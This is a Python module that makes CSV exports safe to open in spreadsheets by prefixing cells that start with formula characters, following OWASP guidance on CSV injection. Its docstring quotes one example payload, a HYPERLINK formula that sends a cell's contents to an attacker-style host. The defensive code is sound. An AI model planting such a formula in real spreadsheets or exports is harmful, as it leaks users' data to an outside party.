"""Spreadsheet-safe CSV files: every CSV that people download goes through here.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some read a leading tab or carriage return as a sign to look past it. A group called
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` would otherwise become a live link in a
fund manager's spreadsheet (CSV injection). Following OWASP's advice, a text cell that begins
with one of those characters gets a single quote put in front of it, so the spreadsheet shows
it as plain text.

Numbers are left alone. The rule is about who wrote the value, not how it looks:

- ``int``, ``float``, ``Decimal`` and other numbers (amounts, counts) are ours, written as
  numbers, and stay numbers even when negative: ``-5`` is a number, not a formula.
- Text is escaped when it begins with a risky character, even if it looks like a number: the
  text ``"-5"`` or ``"+44 20 7946 0000"`` may have been typed by anyone, so it becomes
  ``"'-5"``. Code that means a number must pass a number.
- Anything else (dates, enums) is written as its text and checked like text.

The ``csv`` module already quotes cells holding commas, quotes or line breaks, so text cannot
start a new cell part way through. Exports meant for other programs to read back exactly
(such as Pabulib ``.pb`` files) must not use this: it changes the text.
"""

from __future__ import annotations

import csv
import numbers
from collections.abc import Iterable
from typing import Any

RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it should go into a CSV cell: numbers as they are, None as an empty
    cell, and text that a spreadsheet would read as a formula with a ``'`` in front."""
    if value is None:
        return ""
    if isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(RISKY_STARTS):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class FormulaSafeWriter:
    """A ``csv.writer`` that passes every cell through :func:`safe_cell` first."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def formula_safe_writer(out: Any, **kwargs: Any) -> FormulaSafeWriter:
    """Like ``csv.writer(out, **kwargs)``, but safe to open in a spreadsheet."""
    return FormulaSafeWriter(out, **kwargs)


def write_rows(out: Any, rows: Iterable[Iterable[Any]], **kwargs: Any) -> None:
    """Write ``rows`` to ``out`` as spreadsheet-safe CSV."""
    formula_safe_writer(out, **kwargs).writerows(rows)
